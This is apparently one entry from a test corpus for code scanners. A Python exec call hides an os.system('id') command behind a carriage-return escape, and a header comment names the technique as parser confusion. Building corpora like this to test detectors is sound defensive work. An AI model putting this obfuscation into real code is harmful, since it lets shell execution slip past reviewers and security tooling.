# class: parser-confusion | technique: exec literal whose statements are separated by a "\r" escape; CPython's string tokenizer turns a lone CR into a newline | effect: runs `id`
exec("import os\ros.system('id')")
